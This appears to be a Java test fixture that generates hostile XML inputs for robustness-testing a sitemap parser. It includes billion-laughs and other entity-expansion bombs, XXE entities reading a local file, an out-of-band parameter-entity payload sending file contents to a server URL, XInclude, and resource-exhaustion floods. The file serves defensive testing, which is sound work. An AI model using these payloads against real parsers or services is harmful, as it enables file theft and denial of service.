package io.github.sitemaptoolkit.robustness;

import static io.github.sitemaptoolkit.robustness.Piece.each;
import static io.github.sitemaptoolkit.robustness.Piece.of;
import static io.github.sitemaptoolkit.robustness.Piece.repeat;

import java.util.List;
import java.util.stream.Stream;

/** What XML can do to who reads it. */
final class XmlPayloads {

  private final String file;
  private final String server;
  private final long mega;

  /**
   * Creates the payloads.
   *
   * @param scale how many times as large as usual the large ones are
   */
  XmlPayloads(Traps traps, int scale) {
    this.file = traps.fileUrl();
    this.server = traps.serverUrl();
    this.mega = scale * (1L << 20);
  }

  List<Payload> all() {
    return Stream.of(entities(), structures(), giants()).flatMap(List::stream).toList();
  }

  private static Piece doctype(String subset) {
    return of("<!DOCTYPE urlset [" + subset + "]>");
  }

  private List<Payload> entities() {
    var laughs = new StringBuilder("<!ENTITY l0 \"lol\">");
    for (int i = 1; i < 10; i++) {
      laughs.append("<!ENTITY l").append(i).append(" \"");
      laughs.append(("&l" + (i - 1) + ";").repeat(10)).append("\">");
    }
    return List.of(
        Payload.prolog("billion-laughs", doctype(laughs.toString()), "&l9;"),
        Payload.prolog(
            "quadratic-entity",
            doctype("<!ENTITY a \"" + "a".repeat(100_000) + "\">"),
            "&a;".repeat(1000)),
        Payload.prolog("entity-cycle", doctype("<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">"), "&a;"),
        Payload.prolog("entity-of-file", doctype("<!ENTITY x SYSTEM \"" + file + "\">"), "&x;"),
        Payload.prolog(
            "entity-of-server", doctype("<!ENTITY x SYSTEM \"" + server + "e\">"), "&x;"),
        Payload.prolog(
            "parameter-entity",
            doctype("<!ENTITY % p SYSTEM \"" + server + "p\"> %p; <!ENTITY y \"%p;\">"),
            "&x;"),
        Payload.prolog(
            "parameter-entity-sends-file",
            doctype(
                "<!ENTITY % f SYSTEM \""
                    + file
                    + "\"><!ENTITY % d \"<!ENTITY &#37; s SYSTEM '"
                    + server
                    + "?%f;'>\">%d;%s;"),
            ""),
        Payload.prolog(
            "dtd-of-server", of("<!DOCTYPE urlset SYSTEM \"" + server + "dtd\">"), "&x;"),
        Payload.prolog(
            "dtd-of-file", of("<!DOCTYPE urlset PUBLIC \"-//X//Y\" \"" + file + "\">"), ""),
        Payload.prolog(
            "default-attribute-entity",
            doctype("<!ENTITY x SYSTEM \"" + file + "\"><!ATTLIST loc a CDATA \"&x;\">"),
            ""),
        Payload.prolog(
            "stylesheet", of("<?xml-stylesheet type=\"text/xsl\" href=\"" + server + "s\"?>"), ""),
        Payload.prolog(
            "deep-content-model",
            of("<!DOCTYPE urlset [<!ELEMENT a ").then(repeat("(", 100_000)).then("]>"),
            ""),
        Payload.prolog(
            "giant-doctype",
            of("<!DOCTYPE urlset [").then(repeat("<!ELEMENT a ANY>", mega / 12)).then("]>"),
            ""),
        Payload.prolog("doctype-without-end", of("<!DOCTYPE urlset [ <!-- "), ""));
  }

  private List<Payload> structures() {
    return List.of(
        Payload.child(
            "xinclude",
            of(
                "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\""
                    + file
                    + "\"/><xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\""
                    + server
                    + "i\"/>")),
        Payload.attributes(
            "schema-location",
            of(
                " xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"u "
                    + server
                    + "x\" xsi:noNamespaceSchemaLocation=\""
                    + server
                    + "n\"")),
        Payload.child("depth", repeat("<a>", 200_000).then(repeat("</a>", 200_000))),
        Payload.child("depth-without-end", repeat("<x:a xmlns:x='u'>", 50_000)),
        Payload.child(
            "attribute-flood", of("<a ").then(each(50_000, i -> "a" + i + "='' ")).then("/>")),
        Payload.attributes("attribute-flood-at-root", each(50_000, i -> " a" + i + "=''")),
        Payload.child(
            "colliding-attributes",
            of("<a ").then(each(1 << 10, XmlPayloads::colliding)).then("/>")),
        Payload.child(
            "declaration-flood",
            of("<a ").then(each(50_000, i -> "xmlns:n" + i + "='u' ")).then("/>")),
        Payload.child("name-flood", each(100_000, i -> "<n" + i + "/>")),
        Payload.child("colliding-elements", each(1 << 14, i -> "<a>" + i + "</a>")),
        Payload.child("namespace-flood", each(20_000, i -> "<a xmlns='urn:" + i + "'/>")),
        Payload.child("image-flood", repeat("<image:image xmlns:image='u'/>", 20_000)),
        Payload.child("unbalanced", of("</a></b></url></urlset></rss></feed>")),
        Payload.epilog("second-root", of("<a>" + Corpus.SITE + "</a>")),
        Payload.epilog("epilog-flood", repeat("<!-- -->\n", 100_000)),
        Payload.epilog("nul-epilog", repeat("\0", mega)));
  }

  /** Returns attributes whose names have one hash. */
  private static String colliding(long number) {
    var name = new StringBuilder();
    for (int bit = 0; bit < 10; bit++) {
      name.append((number >> bit & 1) == 0 ? "Aa" : "BB");
    }
    return name + "='' ";
  }

  private List<Payload> giants() {
    Piece filler = repeat("0123456789abcdef", mega / 12);
    return List.of(
        Payload.text("giant-text", filler),
        Payload.text("giant-space", repeat("                ", mega / 12)),
        Payload.child("giant-name", of("<a").then(filler).then("/>")),
        Payload.child("giant-attribute", of("<a b='").then(filler).then("'/>")),
        Payload.child("giant-attribute-name", of("<a b").then(filler).then("=''/>")),
        Payload.child("giant-comment", of("<!--").then(filler).then("-->")),
        Payload.text("comment-flood", repeat("<!---->", mega / 12)),
        Payload.child("giant-instruction", of("<?a ").then(filler).then("?>")),
        Payload.text("giant-cdata", of("<![CDATA[").then(filler).then("]]>")),
        Payload.text("cdata-flood", repeat("<![CDATA[]]>", mega / 12)),
        Payload.text(
            "html-in-cdata", of("<![CDATA[").then(repeat("<li>a</li>", mega / 8)).then("]]>")),
        Payload.child("dashes-in-a-comment", of("<!--").then(repeat("- ", mega / 2)).then("-->")),
        Payload.child(
            "tags-in-an-instruction", of("<?p ").then(repeat("<li>", mega / 4)).then("?>")),
        Payload.text("reference-flood", repeat("&amp;&#65;", mega / 12)),
        Payload.text("giant-reference", of("&").then(filler).then(";")),
        Payload.text("giant-number", of("&#").then(repeat("9", mega)).then(";")),
        Payload.child("giant-foreign-text", of("<x:a xmlns:x='u'>").then(filler).then("</x:a>")),
        Payload.child("tag-without-end", of("<a ").then(repeat(" ", mega))));
  }
}
